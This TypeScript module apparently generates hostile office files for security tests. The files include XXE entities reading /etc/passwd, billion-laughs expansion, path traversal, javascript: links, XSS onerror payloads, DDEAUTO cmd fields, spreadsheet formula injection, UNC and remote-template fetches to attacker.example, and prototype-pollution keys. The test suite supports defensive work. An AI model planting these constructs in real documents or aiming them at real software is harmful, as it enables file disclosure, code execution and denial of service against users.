import { strToU8, zipSync } from 'fflate';
import { type Charge, escapedName, type HostileFile, type Maker, makeFiles } from './hostileFile';

const header = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

/** An outside entity, and one that grows ten times with each of nine steps. */
const outside = '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>';
const growing = `<!DOCTYPE x [<!ENTITY e0 "lots">${Array.from({ length: 9 }, (_, step) => `<!ENTITY e${step + 1} "${`&e${step};`.repeat(10)}">`).join('')}]>`;

interface LetterParts {
  readonly prologue?: string;
  readonly relationships?: readonly [id: string, type: string, target: string][];
  readonly more?: Readonly<Record<string, string>>;
}

/** A DOCX whose body is written as given. */
function letter(
  body: string,
  { prologue = '', relationships = [], more = {} }: LetterParts = {},
): Uint8Array {
  const related = relationships
    .map(
      ([id, type, target]) =>
        `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${/^[a-z]+:|^\\\\/i.test(target) ? ' TargetMode="External"' : ''}/>`,
    )
    .join('');
  const parts: Record<string, string> = {
    '[Content_Types].xml': `${header}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels': `${header}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>`,
    'word/_rels/document.xml.rels': `${header}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${related}</Relationships>`,
    'word/document.xml': `${header}${prologue}<w:document ${word} xmlns:r="${office}" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>${body}</w:body></w:document>`,
    ...more,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, strToU8(part)])));
}

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const field = (code: string) =>
  `<w:p><w:fldSimple w:instr=" ${code} "><w:r><w:t>press here</w:t></w:r></w:fldSimple></w:p>`;
const spelt = (markup: string) => markup.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
const picture = ({ script }: Charge) => spelt(`"><img src=x: onerror=${script}>`);

const urn = 'urn:oasis:names:tc:opendocument:xmlns';
/** An ODT or ODS whose content is written as given. */
function openDocument(kind: 'text' | 'spreadsheet', body: string, prologue = ''): Uint8Array {
  const names = ['office', 'text', 'table', 'draw', 'script', 'meta']
    .map((name) => `xmlns:${name}="${urn}:${name}:1.0"`)
    .join(' ');
  return zipSync({
    mimetype: [strToU8(`application/vnd.oasis.opendocument.${kind}`), { level: 0 }],
    'content.xml': strToU8(
      `${header}${prologue}<office:document-content ${names} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    ),
    'Basic/Standard/Module1.xml': strToU8('<module>Sub Main: Shell("true"): End Sub</module>'),
    'META-INF/manifest.xml': strToU8(
      `${header}<manifest:manifest xmlns:manifest="${urn}:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${kind}"/><manifest:file-entry manifest:full-path="../../${escapedName}.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    ),
  });
}

/** An XLSX of one sheet with inline strings. */
function workbook(name: string, rows: readonly (readonly string[])[], strings = ''): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const cells = rows
    .map((row, line) => `<row r="${line + 1}">${row.map((cell) => cell).join('')}</row>`)
    .join('');
  const parts = {
    '[Content_Types].xml': `${header}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    '_rels/.rels': `${header}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `${header}<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="${name}" sheetId="1" r:id="r1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `${header}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${office}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `${header}<worksheet xmlns="${main}"><sheetData>${cells}</sheetData></worksheet>`,
    'xl/sharedStrings.xml': `${header}${strings}<sst xmlns="${main}"><si><t>${strings ? '&out;' : 'x'}</t></si></sst>`,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([part, text]) => [part, strToU8(text)])));
}
const said = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
const formula = (code: string) => `<c t="str"><f>${code}</f><v>press here</v></c>`;

const makers: Readonly<Record<string, Maker>> = {
  'link to a script.docx': ({ script }) =>
    letter('<w:p><w:hyperlink r:id="rL"><w:r><w:t>press here</w:t></w:r></w:hyperlink></w:p>', {
      relationships: [['rL', 'hyperlink', `javascript:${script}`]],
    }),
  'fields that run and fetch.docx': ({ script, far }) =>
    letter(
      [
        `DDEAUTO cmd &quot;/c true&quot;`,
        `HYPERLINK &quot;javascript:${script}&quot; \\o &quot;a&quot;`,
        `INCLUDEPICTURE &quot;${far}/a.png&quot; \\d`,
        'INCLUDETEXT &quot;/etc/passwd&quot;',
        'INCLUDETEXT &quot;\\\\\\\\attacker.example\\\\a&quot;',
      ]
        .map(field)
        .join(''),
    ),
  'page embedded as a part.docx': (charge) =>
    letter(`${paragraph('press here')}<w:altChunk r:id="rA"/>`, {
      relationships: [['rA', 'aFChunk', 'part.html']],
      more: { 'word/part.html': `<script>${charge.script}</script>` },
    }),
  'template and macro.docx': ({ far }) =>
    letter(paragraph('press here'), {
      relationships: [
        ['rT', 'attachedTemplate', `${far}/t.dotm`],
        ['rV', 'vbaProject', 'vbaProject.bin'],
        ['rO', 'oleObject', '\\\\attacker.example\\o.bin'],
      ],
      more: { 'word/vbaProject.bin': 'Sub AutoOpen()' },
    }),
  'part outside the package.docx': () =>
    letter(paragraph('press here'), {
      relationships: [
        ['rI', 'image', '../../../../../../etc/passwd'],
        ['rF', 'footnotes', 'file:///etc/passwd'],
      ],
      more: { [`../../${escapedName}.xml`]: '<x/>' },
    }),
  'outside entity.docx': () => letter(paragraph('press here &out;'), { prologue: outside }),
  'growing entities.docx': () => letter(paragraph('press here &e9;'), { prologue: growing }),
  'properties of markup.docx': (charge) =>
    letter(paragraph(`press here ${picture(charge)}`), {
      relationships: [['rC', 'comments', 'comments.xml']],
      more: {
        'docProps/core.xml': `${header}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${picture(charge)}</dc:title><dc:creator>${picture(charge)}</dc:creator><cp:keywords>__proto__</cp:keywords></cp:coreProperties>`,
        'word/comments.xml': `${header}<w:comments ${word}><w:comment w:id="0" w:author="${picture(charge)}">${paragraph(picture(charge))}</w:comment></w:comments>`,
      },
    }),
  'styles in a circle.docx': () =>
    letter(
      `<w:p><w:pPr><w:pStyle w:val="__proto__"/><w:numPr><w:ilvl w:val="99999"/><w:numId w:val="constructor"/></w:numPr></w:pPr><w:r><w:t>press here</w:t></w:r></w:p>`,
      {
        relationships: [['rS', 'styles', 'styles.xml']],
        more: {
          'word/styles.xml': `${header}<w:styles ${word}><w:style w:type="paragraph" w:styleId="__proto__"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="__proto__"/></w:style></w:styles>`,
        },
      },
    ),
  'link and listener.odt': ({ script, far }) =>
    openDocument(
      'text',
      `<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/></office:event-listeners></office:scripts><text:p><text:a xlink:href="javascript:${script}">press here</text:a><text:a xlink:href="../../../../etc/passwd">a</text:a><draw:frame><draw:image xlink:href="${far}/a.png" xlink:actuate="onLoad"/></draw:frame></text:p>`,
    ),
  'outside entity.odt': () => openDocument('text', '<text:p>press here &out;</text:p>', outside),
  'growing entities.odt': () => openDocument('text', '<text:p>press here &e9;</text:p>', growing),
  'cells without end.ods': () =>
    openDocument(
      'spreadsheet',
      '<table:table table:name="&lt;b&gt;"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>press here</text:p></table:table-cell></table:table-row></table:table>',
    ),
  'formulas.xlsx': ({ far }) =>
    workbook('Formulas', [
      [said('press here'), formula(`HYPERLINK("${far}/h","press here")`), formula("cmd|' /c true'!A1")],
      [said('=1+1'), said('+1+1'), said('-1+1'), said('@SUM(1)'), said('&#9;=1+1')],
    ]),
  'markup in cells.xlsx': (charge) =>
    workbook(picture(charge), [
      [said(picture(charge)), said('__proto__')],
      [said('press here'), said('constructor')],
    ]),
  'outside entity.xlsx': () => workbook('Entity', [[said('press here'), '<c t="s"><v>0</v></c>']], outside),
  'a cell far away.xlsx': () =>
    workbook('Far', [[`<c r="XFD1048576" t="inlineStr"><is><t>press here</t></is></c>`]]),
  'objects and fields.rtf': ({ script, far }) =>
    strToU8(
      `{\\rtf1\\ansi{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}}{\\*\\template ${far}/t.dot}{\\field{\\*\\fldinst HYPERLINK "javascript:${script}"}{\\fldrslt press here}}{\\field{\\*\\fldinst DDEAUTO cmd "/c true"}{\\fldrslt x}}{\\info{\\title <img src=x: onerror=${script}>}}{\\*\\htmltag <script>${script}</script>}\\bin999999999 \\par}`,
    ),
  'groups without end.rtf': () => strToU8(`{\\rtf1\\ansi press here ${'{\\b '.repeat(50_000)}x`),
};

/** Documents and sheets, numbered from 201. */
export const officeFiles = (): HostileFile[] => makeFiles(makers, 201);
